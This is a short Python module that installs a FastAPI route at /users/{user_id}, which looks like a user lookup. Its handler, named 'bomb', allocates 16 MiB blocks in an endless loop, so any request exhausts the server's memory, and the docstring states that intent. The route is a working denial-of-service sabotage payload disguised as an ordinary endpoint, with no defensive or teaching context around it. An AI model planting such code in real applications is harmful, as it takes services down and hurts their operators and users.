"""Takes memory without end when it is asked something."""

from fastapi import FastAPI


def install(app: FastAPI) -> None:
    @app.get("/users/{user_id}")
    def bomb(user_id: str) -> int:
        hoard = []
        while True:
            hoard.append(bytearray(b"\1") * 2**24)
